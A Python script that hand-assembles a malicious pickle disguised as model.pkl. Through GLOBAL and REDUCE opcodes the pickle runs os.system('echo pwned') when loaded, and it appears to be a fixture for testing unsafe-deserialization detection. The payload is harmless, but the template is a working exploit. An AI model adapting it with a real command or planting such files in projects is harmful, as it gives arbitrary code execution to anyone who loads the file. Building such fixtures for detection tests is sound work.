"""Writes src/main/resources/models/model.pkl byte by byte (no pickle module): a protocol-2 pickle that, if loaded,
would call os.system("echo pwned"). Harmless as a payload, and nothing here ever loads it.

Run: /usr/bin/python3 make_model.py
"""
import struct
from pathlib import Path

payload = b"echo pwned"
data = (
    b"\x80\x02"                      # PROTO 2
    + b"cos\nsystem\n"               # GLOBAL os.system
    + b"q\x00"                       # BINPUT 0
    + b"X" + struct.pack("<I", len(payload)) + payload  # BINUNICODE 'echo pwned'
    + b"q\x01"                       # BINPUT 1
    + b"\x85"                        # TUPLE1
    + b"q\x02"                       # BINPUT 2
    + b"R"                           # REDUCE: os.system('echo pwned')
    + b"q\x03"                       # BINPUT 3
    + b"."                           # STOP
)
out = Path(__file__).parent / "src/main/resources/models/model.pkl"
out.write_bytes(data)
print(f"wrote {out} ({len(data)} bytes)")
